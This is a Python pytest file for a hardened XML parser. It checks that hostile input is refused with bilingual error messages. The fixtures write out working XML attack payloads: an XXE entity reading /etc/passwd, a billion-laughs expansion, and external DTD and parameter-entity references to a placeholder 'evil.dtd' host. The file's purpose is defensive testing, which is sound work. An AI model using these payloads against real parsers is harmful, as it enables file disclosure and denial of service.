"""Hostile input: every attack is refused with a clear, bilingual error before it can bite."""

from __future__ import annotations

import pytest

from opencbec.messages.ceb.codec import decode
from opencbec.messages.ceb.errors import CebParseError
from opencbec.messages.ceb.safexml import Limits, parse
from opencbec.messages.ceb.validate import validate_bytes

GOOD = b'<?xml version="1.0" encoding="UTF-8"?><a xmlns="urn:x"><b>1</b></a>'

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://example.invalid/evil.dtd">
<r/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://example.invalid/x"> %p;]><r/>"""


def _code(data: bytes, limits: Limits | None = None) -> str:
    with pytest.raises(CebParseError) as caught:
        parse(data) if limits is None else parse(data, limits)
    found = caught.value.issues[0]
    assert found.reason_en
    assert found.reason_zh
    return found.code


def test_good_input_parses() -> None:
    assert parse(GOOD).tag == "{urn:x}a"
    assert parse(bytearray(GOOD)).tag == "{urn:x}a"


@pytest.mark.parametrize("attack", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(attack: bytes) -> None:
    assert _code(attack) == "dtd"


def test_undeclared_entity_reference_is_not_well_formed() -> None:
    assert _code(b"<r>&undefined;</r>") == "not_well_formed"


def test_oversize_input_is_refused_before_parsing() -> None:
    assert _code(GOOD, Limits(max_bytes=len(GOOD) - 1)) == "too_large"
    assert parse(GOOD, Limits(max_bytes=len(GOOD))) is not None


def test_too_deep_nesting_is_refused() -> None:
    deep = b"<a>" * 30 + b"</a>" * 30
    assert _code(deep) == "too_deep"
    assert parse(deep, Limits(max_depth=30)) is not None
    assert _code(deep, Limits(max_depth=29)) == "too_deep"


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        b'<?xml version="1.0" encoding="EBCDIC-US"?><a/>',
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        "<a/>".encode("utf-16"),
        "<?xml version='1.0'?><a/>".encode("utf-16-be"),
        b'\xef\xbb\xbf<?xml version="1.0" encoding="GBK"?><a/>',
    ],
)
def test_wrong_or_unsupported_encoding_declarations_are_refused(data: bytes) -> None:
    assert _code(data) == "encoding"


def test_bytes_that_contradict_the_declared_encoding_are_refused() -> None:
    # GB18030 bytes declared as UTF-8.
    data = '<?xml version="1.0" encoding="UTF-8"?><a>中文</a>'.encode("gb18030")
    assert _code(data) == "not_well_formed"


def test_gbk_declared_and_utf8_bom_without_declaration() -> None:
    data = '<?xml version="1.0" encoding="GBK"?><a>中文</a>'.encode("gbk")
    assert parse(data).text == "中文"
    assert parse(b"\xef\xbb\xbf<a>x</a>").text == "x"


def test_not_well_formed_and_non_bytes() -> None:
    assert _code(b"<a><b></a>") == "not_well_formed"
    assert _code(b"") == "not_well_formed"
    with pytest.raises(TypeError):
        parse("<a/>")  # type: ignore[arg-type]


def test_decode_and_validate_surface_parse_errors() -> None:
    with pytest.raises(CebParseError):
        decode(XXE)
    issues = validate_bytes(BILLION_LAUGHS)
    assert [i.code for i in issues] == ["dtd"]
    assert "DTD" in issues[0].reason_zh


def test_exclamation_marks_in_text_and_comments_still_meet_the_dtd_check() -> None:
    # The DTD scan first looks for "!"; text and comments holding one must still parse, and a
    # DOCTYPE after them must still be refused.
    chatty = b'<?xml version="1.0"?><!-- hi! --><a xmlns="urn:x"><b>wow!</b></a>'
    assert parse(chatty).findtext("{urn:x}b") == "wow!"
    assert _code(chatty.replace(b"<a ", b'<!DOCTYPE a [<!ENTITY e "x">]><a ')) == "dtd"
    assert _code(b"<!ENTITY e 'x'><r/>") == "dtd"
